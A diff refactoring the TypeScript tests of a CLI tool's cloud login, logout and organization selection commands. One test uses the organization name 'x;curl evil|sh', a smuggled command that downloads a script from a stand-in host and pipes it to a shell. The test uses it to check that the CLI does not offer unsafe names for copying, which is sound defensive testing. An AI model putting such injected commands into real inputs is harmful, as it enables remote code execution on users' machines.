@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { LOCAL_TOKEN } from '../../scripts/local-cloud/index.ts';
 import { newOrganization } from '../../scripts/local-cloud/store.ts';
-import { cloudSession, SECRET } from '../support/cloud-session.ts';
+import { cloudIt, cloudItWith, SECRET } from '../support/cloud-session.ts';
 import { assertMode } from '../support/systems.ts';
 
 const CONFIG = '.config/botcli/config.json';
@@ -13,84 +13,72 @@ const none = { accounts: { [LOCAL_TOKEN]: [] } };
 const login = 'cloud auth login --token-stdin';
 const input = `${LOCAL_TOKEN}\n`;
 
+const accountIt = cloudItWith(() => ({ env }));
+const twoIt = cloudItWith(() => ({ env, cloud: two }));
+
 describe('cloud auth', () => {
-  it(
-    'logs in with one request to check the token, and logs out',
-    cloudSession({ env }, async ({ succeed, requests, directory, read, cloud }) => {
-      assert.match(
-        await succeed(login, { input }),
-        /^✓ Logged in to http:\/\/127\.0\.0\.1:\d+\. The token is stored in .*config\.json\n {2}Organization: acme\n$/,
-      );
-      assert.deepEqual(requests(), ['GET /v1/organizations 200']);
-      assert.deepEqual(JSON.parse(read(CONFIG)), { token: LOCAL_TOKEN, organization: 'acme', apiUrl: cloud.url });
-      assertMode(join(directory, CONFIG), '600');
-      assertMode(join(directory, '.config/botcli'), '700');
-      const whoami = await succeed('cloud auth whoami', { env: { BOTCLI_API_URL: '' } });
-      assert.match(
-        whoami,
-        /^Account: {7}dev@example\.com\nOrganization: {2}acme\nAPI: .*\nToken from: .*config\.json\n$/,
-      );
-      assert.match(await succeed('cloud auth logout'), /^✓ Logged out\. The token was removed from/);
-      assert.deepEqual(JSON.parse(read(CONFIG)), {});
-      assert.match(await succeed('cloud auth logout'), /^You weren't logged in\n$/);
-    }),
-  );
+  accountIt('logs in with one request, and logs out', async ({ succeed, requests, directory, read, cloud }) => {
+    assert.match(
+      await succeed(login, { input }),
+      /^✓ Logged in to http:\/\/127\.0\.0\.1:\d+\. The token is stored in .*config\.json\n {2}Organization: acme\n$/,
+    );
+    assert.deepEqual(requests(), ['GET /v1/organizations 200']);
+    assert.deepEqual(JSON.parse(read(CONFIG)), { token: LOCAL_TOKEN, organization: 'acme', apiUrl: cloud.url });
+    assertMode(join(directory, CONFIG), '600');
+    assertMode(join(directory, '.config/botcli'), '700');
+    const whoami = await succeed('cloud auth whoami', { env: { BOTCLI_API_URL: '' } });
+    assert.match(
+      whoami,
+      /^Account: {7}dev@example\.com\nOrganization: {2}acme\nAPI: .*\nToken from: .*config\.json\n$/,
+    );
+    assert.match(await succeed('cloud auth logout'), /^✓ Logged out\. The token was removed from/);
+    assert.deepEqual(JSON.parse(read(CONFIG)), {});
+    assert.match(await succeed('cloud auth logout'), /^You weren't logged in\n$/);
+  });
 
-  it(
-    'logs out by removing the organization, even if no token is stored',
-    cloudSession({ cloud: two }, async ({ succeed, read }) => {
-      await succeed('cloud organizations select beta');
-      assert.deepEqual(JSON.parse(read(CONFIG)), { organization: 'beta' });
-      assert.match(
-        await succeed('cloud auth logout'),
-        /^✓ Removed the organization from .*config\.json; no token was stored there\n$/,
-      );
-      assert.deepEqual(JSON.parse(read(CONFIG)), {});
-      await succeed('cloud organizations select beta');
-      assert.equal(JSON.parse(await succeed('cloud auth logout --json')).logged_out, false);
-      assert.deepEqual(JSON.parse(read(CONFIG)), {});
-    }),
-  );
+  cloudIt('removes the organization, even if no token is stored', { cloud: two }, async ({ succeed, read }) => {
+    await succeed('cloud organizations select beta');
+    assert.deepEqual(JSON.parse(read(CONFIG)), { organization: 'beta' });
+    assert.match(
+      await succeed('cloud auth logout'),
+      /^✓ Removed the organization from .*config\.json; no token was stored there\n$/,
+    );
+    assert.deepEqual(JSON.parse(read(CONFIG)), {});
+    await succeed('cloud organizations select beta');
+    assert.equal(JSON.parse(await succeed('cloud auth logout --json')).logged_out, false);
+    assert.deepEqual(JSON.parse(read(CONFIG)), {});
+  });
 
-  it(
-    'shows the organization that commands would use',
-    cloudSession({ env: { BOTCLI_ORG: '' }, cloud: two }, async ({ succeed, fail }) => {
-      assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}none selected of acme, beta\n/);
-      assert.match(await fail(2, 'cloud secrets list'), /No organization is selected/);
-      await succeed('cloud organizations select beta');
-      assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}beta\n/);
-    }),
-  );
+  cloudIt('shows the organization in use', { env: { BOTCLI_ORG: '' }, cloud: two }, async ({ succeed, fail }) => {
+    assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}none selected of acme, beta\n/);
+    assert.match(await fail(2, 'cloud secrets list'), /No organization is selected/);
+    await succeed('cloud organizations select beta');
+    assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}beta\n/);
+  });
 
-  it(
-    'shows the only organization, which commands use without a selection',
-    cloudSession({ env: { BOTCLI_ORG: '' } }, async ({ succeed, run }) => {
-      assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}acme, your only one\n/);
-      assert.equal(JSON.parse(await succeed('cloud auth whoami --json')).organization, 'acme');
-      assert.match((await run('cloud secrets list')).stderr, /Organization: acme/);
-    }),
-  );
+  cloudIt('shows the only organization', { env: { BOTCLI_ORG: '' } }, async ({ succeed, run }) => {
+    assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}acme, your only one\n/);
+    assert.equal(JSON.parse(await succeed('cloud auth whoami --json')).organization, 'acme');
+    assert.match((await run('cloud secrets list')).stderr, /Organization: acme/);
+  });
 
-  it(
-    'prints results as JSON',
-    cloudSession({ env, cloud: two }, async ({ succeed, directory, cloud }) => {
-      const config = join(directory, CONFIG);
-      const result = { organizations: ['acme', 'beta'], organization: null, api_url: cloud.url, config };
-      assert.deepEqual(JSON.parse(await succeed(`${login} --json`, { input })), result);
-      assert.deepEqual(JSON.parse(await succeed('cloud organizations select beta --json')), { organization: 'beta' });
-      assert.deepEqual(JSON.parse(await succeed('cloud auth whoami --json')), {
-        user: 'dev@example.com',
-        organization: 'beta',
-        api_url: cloud.url,
-        token: config,
-      });
-      assert.deepEqual(JSON.parse(await succeed('cloud organizations list --json')).organizations, [
-        { name: 'acme', display_name: 'Acme', current: false },
-        { name: 'beta', display_name: 'Beta', current: true },
-      ]);
-      assert.deepEqual(JSON.parse(await succeed('cloud auth logout --json')), { logged_out: true, config });
-    }),
-  );
+  twoIt('prints results as JSON', async ({ succeed, directory, cloud }) => {
+    const config = join(directory, CONFIG);
+    const result = { organizations: ['acme', 'beta'], organization: null, api_url: cloud.url, config };
+    assert.deepEqual(JSON.parse(await succeed(`${login} --json`, { input })), result);
+    assert.deepEqual(JSON.parse(await succeed('cloud organizations select beta --json')), { organization: 'beta' });
+    assert.deepEqual(JSON.parse(await succeed('cloud auth whoami --json')), {
+      user: 'dev@example.com',
+      organization: 'beta',
+      api_url: cloud.url,
+      token: config,
+    });
+    assert.deepEqual(JSON.parse(await succeed('cloud organizations list --json')).organizations, [
+      { name: 'acme', display_name: 'Acme', current: false },
+      { name: 'beta', display_name: 'Beta', current: true },
+    ]);
+    assert.deepEqual(JSON.parse(await succeed('cloud auth logout --json')), { logged_out: true, config });
+  });
 
   const refusals: [line: string, input: string | undefined, code: 1 | 2, message: RegExp][] = [
     [
@@ -129,74 +117,59 @@ describe('cloud auth', () => {
     ],
   ];
   for (const [line, input, code, message] of refusals) {
-    it(
-      `refuses ${line} ${JSON.stringify(input ?? '').replaceAll(SECRET, '…')}`,
-      cloudSession({ env }, async ({ fail, exists }) => {
-        assert.match(await fail(code, line, { input }), message);
-        assert(!exists(CONFIG));
-      }),
-    );
+    accountIt(`refuses ${line} ${JSON.stringify(input ?? '').replaceAll(SECRET, '…')}`, async ({ fail, exists }) => {
+      assert.match(await fail(code, line, { input }), message);
+      assert(!exists(CONFIG));
+    });
   }
 });
 
 describe('the organization', () => {
-  it(
-    'defaults to the only one, and is printed',
-    cloudSession({ env: { BOTCLI_ORG: '' } }, async ({ run }) => {
-      assert.match((await run('cloud secrets list')).stderr, /^Organization: acme\n/);
-    }),
-  );
+  cloudIt('defaults to the only one, and is printed', { env: { BOTCLI_ORG: '' } }, async ({ run }) => {
+    assert.match((await run('cloud secrets list')).stderr, /^Organization: acme\n/);
+  });
 
-  it(
-    'must be passed, set in BOTCLI_ORG, or selected if there are several',
-    cloudSession({ env, cloud: two }, async ({ run, fail, succeed, cloud }) => {
-      const { stderr } = await run(login, { input });
-      assert.equal(stderr, 'Your organizations: acme, beta. Select one: botcli cloud organizations select acme\n');
-      assert.match(
-        await fail(2, 'cloud secrets list'),
-        /No organization is selected; this account has acme, beta\nSelect one with botcli cloud organizations select, or pass it with -o/,
-      );
-      assert.match(
-        await fail(1, 'cloud organizations select bta'),
-        /no organization with that name\. Did you mean beta\?\nYour organizations: acme, beta/,
-      );
-      await succeed('cloud organizations select beta');
-      assert.equal(await succeed('cloud organizations list'), 'acme\tAcme\t\nbeta\tBeta\tin use\n');
-      const used = async (line: string, more = {}) => {
-        await run(line, { env: more });
-        return cloud.requests().at(-1);
-      };
-      assert.match((await used('cloud secrets list')) ?? '', /organizations\/beta\//);
-      assert.match((await used('cloud secrets list', { BOTCLI_ORG: 'acme' })) ?? '', /organizations\/acme\//);
-      assert.match((await used('cloud secrets list -o beta', { BOTCLI_ORG: 'acme' })) ?? '', /organizations\/beta\//);
-      // Logging in again keeps the selected organization.
-      assert.match(await succeed(login, { input }), /Organization: beta/);
-    }),
-  );
+  twoIt('must be chosen if there are several', async ({ run, fail, succeed, cloud }) => {
+    const { stderr } = await run(login, { input });
+    assert.equal(stderr, 'Your organizations: acme, beta. Select one: botcli cloud organizations select acme\n');
+    assert.match(
+      await fail(2, 'cloud secrets list'),
+      /No organization is selected; this account has acme, beta\nSelect one with botcli cloud organizations select, or pass it with -o/,
+    );
+    assert.match(
+      await fail(1, 'cloud organizations select bta'),
+      /no organization with that name\. Did you mean beta\?\nYour organizations: acme, beta/,
+    );
+    await succeed('cloud organizations select beta');
+    assert.equal(await succeed('cloud organizations list'), 'acme\tAcme\t\nbeta\tBeta\tin use\n');
+    const used = async (line: string, more = {}) => {
+      await run(line, { env: more });
+      return cloud.requests().at(-1);
+    };
+    assert.match((await used('cloud secrets list')) ?? '', /organizations\/beta\//);
+    assert.match((await used('cloud secrets list', { BOTCLI_ORG: 'acme' })) ?? '', /organizations\/acme\//);
+    assert.match((await used('cloud secrets list -o beta', { BOTCLI_ORG: 'acme' })) ?? '', /organizations\/beta\//);
+    // Logging in again keeps the selected organization.
+    assert.match(await succeed(login, { input }), /Organization: beta/);
+  });
 
-  it(
-    'may not exist',
-    cloudSession({ env: { BOTCLI_ORG: '' }, cloud: none }, async ({ fail, run }) => {
-      assert.match(await fail(1, 'cloud secrets list'), /This account has no organizations/);
-      assert.equal((await run('cloud organizations list')).stderr, 'This account has no organizations.\n');
-    }),
-  );
+  cloudIt('may not exist', { env: { BOTCLI_ORG: '' }, cloud: none }, async ({ fail, run }) => {
+    assert.match(await fail(1, 'cloud secrets list'), /This account has no organizations/);
+    assert.equal((await run('cloud organizations list')).stderr, 'This account has no organizations.\n');
+  });
 
-  it(
-    'can be selected with -o',
-    cloudSession({ env, cloud: two }, async ({ succeed, fail, read }) => {
-      await succeed(login, { input });
-      for (const line of ['select -o beta', 'select --organization=beta beta', 'select beta -o beta']) {
-        assert.match(await succeed(`cloud organizations ${line}`), /^✓ Selected organization beta/);
-        assert.equal(JSON.parse(read(CONFIG)).organization, 'beta');
-      }
-      assert.match(
-        await fail(2, 'cloud organizations select acme -o beta'),
-        /^error: <name> and --organization differ\n/,
-      );
-      assert.match(await fail(1, 'cloud organizations select -o bta'), /Did you mean beta\?/);
-    }),
-  );
+  twoIt('can be selected with -o', async ({ succeed, fail, read }) => {
+    await succeed(login, { input });
+    for (const line of ['select -o beta', 'select --organization=beta beta', 'select beta -o beta']) {
+      assert.match(await succeed(`cloud organizations ${line}`), /^✓ Selected organization beta/);
+      assert.equal(JSON.parse(read(CONFIG)).organization, 'beta');
+    }
+    assert.match(
+      await fail(2, 'cloud organizations select acme -o beta'),
+      /^error: <name> and --organization differ\n/,
+    );
+    assert.match(await fail(1, 'cloud organizations select -o bta'), /Did you mean beta\?/);
+  });
 
   const evil = 'x;curl evil|sh';
   const offers: [names: string[], offer: string][] = [
@@ -205,15 +178,13 @@ describe('the organization', () => {
     [[evil], `Your organizations: ${evil}. Select one: botcli cloud organizations select\n`],
   ];
   for (const [names, offer] of offers) {
-    it(
+    cloudIt(
       `is only offered for copying if a shell takes it for a word: ${names.join(' and ')}`,
-      cloudSession(
-        { env, cloud: { accounts: { [LOCAL_TOKEN]: names.map(name => newOrganization(name)) } } },
-        async ({ run, read }) => {
-          assert.equal((await run(login, { input })).stderr, offer);
-          assert.equal(JSON.parse(read(CONFIG)).organization, undefined);
-        },
-      ),
+      { env, cloud: { accounts: { [LOCAL_TOKEN]: names.map(name => newOrganization(name)) } } },
+      async ({ run, read }) => {
+        assert.equal((await run(login, { input })).stderr, offer);
+        assert.equal(JSON.parse(read(CONFIG)).organization, undefined);
+      },
     );
   }
 });
